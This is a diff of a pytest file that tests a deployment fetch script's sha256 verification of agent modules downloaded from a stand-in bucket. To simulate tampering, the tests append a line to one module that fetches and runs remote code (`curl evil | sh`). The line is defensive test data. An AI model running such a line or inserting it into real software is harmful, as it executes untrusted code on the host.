@@ -14,6 +14,7 @@ import hashlib
 import os
 import stat
 import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -77,45 +78,55 @@ def _fake_aws(tmp_path: Path, served: Path) -> Path:
     return bin_dir
 
 
-APP_TOOL = REPO / "host" / "deploy" / "leanstack_app.py"
+AGENT = REPO / "host" / "agent"
+INSTALLED_AGENT = "usr/local/lib/leanstack/leanstack_agent"
 
 
-def _run_fetch(dev: StackRun, tmp_path: Path, tool_text: str) -> tuple[subprocess.CompletedProcess[str], Path]:
-    served = tmp_path / "served" / "bin"
+def _run_fetch(dev: StackRun, tmp_path: Path, tampered: str = "") -> tuple[subprocess.CompletedProcess[str], Path]:
+    """The real fetch script against a stand-in bucket holding the agent's modules (one `tampered`)."""
+    served = tmp_path / "served" / "agent"
     served.mkdir(parents=True)
-    (served / "leanstack-backup").write_text(tool_text)
-    (served / "leanstack-app").write_text(APP_TOOL.read_text())
+    for module in AGENT.glob("*.py"):
+        text = module.read_text()
+        (served / module.name).write_text(
+            text + "\nimport os; os.system('curl evil | sh')\n" if module.name == tampered else text
+        )
     target = tmp_path / "root"
     script = written_file(dev, "/usr/local/sbin/leanstack-fetch-host-files")
     # Run the real script, pointed at a scratch root instead of /usr/local.
     script = script.replace(" /usr/local/", f" {target}/usr/local/")
-    (target / "usr/local/bin").mkdir(parents=True)
-    (target / "usr/local/sbin").mkdir(parents=True)
     path = tmp_path / "fetch.sh"
     path.write_text(script)
     env = dict(os.environ, PATH=f"{_fake_aws(tmp_path, tmp_path / 'served')}:{os.environ['PATH']}")
     done = subprocess.run(["sh", str(path)], capture_output=True, text=True, env=env, timeout=60)
-    return done, target / "usr/local/bin/leanstack-backup"
+    return done, target / INSTALLED_AGENT
 
 
-def test_fetch_script_installs_the_tool_when_its_sha256_matches(dev: StackRun, tmp_path: Path) -> None:
+def test_fetch_script_installs_the_agent_when_each_sha256_matches(dev: StackRun, tmp_path: Path) -> None:
     if os.geteuid() != 0:
         pytest.skip("the fetch script installs files owned by root; run as root")
-    tool = (REPO / "host" / "backup" / "leanstack_backup.py").read_text()
-    done, installed = _run_fetch(dev, tmp_path, tool)
+    done, installed = _run_fetch(dev, tmp_path)
     assert done.returncode == 0, done.stderr
-    assert hashlib.sha256(installed.read_bytes()).hexdigest() == hashlib.sha256(tool.encode()).hexdigest()
-    assert stat.S_IMODE(installed.stat().st_mode) == 0o755
-    app_tool = installed.parent.parent / "sbin" / "leanstack-app"
-    assert app_tool.read_text() == APP_TOOL.read_text()
+    for module in AGENT.glob("*.py"):
+        copy = installed / module.name
+        assert hashlib.sha256(copy.read_bytes()).hexdigest() == hashlib.sha256(module.read_bytes()).hexdigest()
+        assert stat.S_IMODE(copy.stat().st_mode) == 0o644
+    # The entry script from the user data runs the installed package.
+    entry = written_file(dev, "/usr/local/bin/leanstack-backup").replace(
+        "/usr/local/lib/leanstack", str(installed.parent)
+    )
+    (tmp_path / "leanstack-backup").write_text(entry)
+    shown = subprocess.run(
+        [sys.executable, str(tmp_path / "leanstack-backup"), "--help"], capture_output=True, text=True, timeout=60
+    )
+    assert shown.returncode == 0 and "DRILL_DATABASE_URL" in shown.stdout, shown.stderr
 
 
 def test_fetch_script_refuses_a_tampered_file(dev: StackRun, tmp_path: Path) -> None:
-    tool = (REPO / "host" / "backup" / "leanstack_backup.py").read_text()
-    done, installed = _run_fetch(dev, tmp_path, tool + "\nimport os; os.system('curl evil | sh')\n")
+    done, installed = _run_fetch(dev, tmp_path, tampered="backup.py")
     assert done.returncode != 0
-    assert "does not match its sha256; not installed" in done.stderr
-    assert not installed.exists()
+    assert "agent/backup.py does not match its sha256; not installed" in done.stderr
+    assert not (installed / "backup.py").exists()
 
 
 def test_fetch_unit_parses_with_systemd(dev: StackRun, tmp_path: Path) -> None:
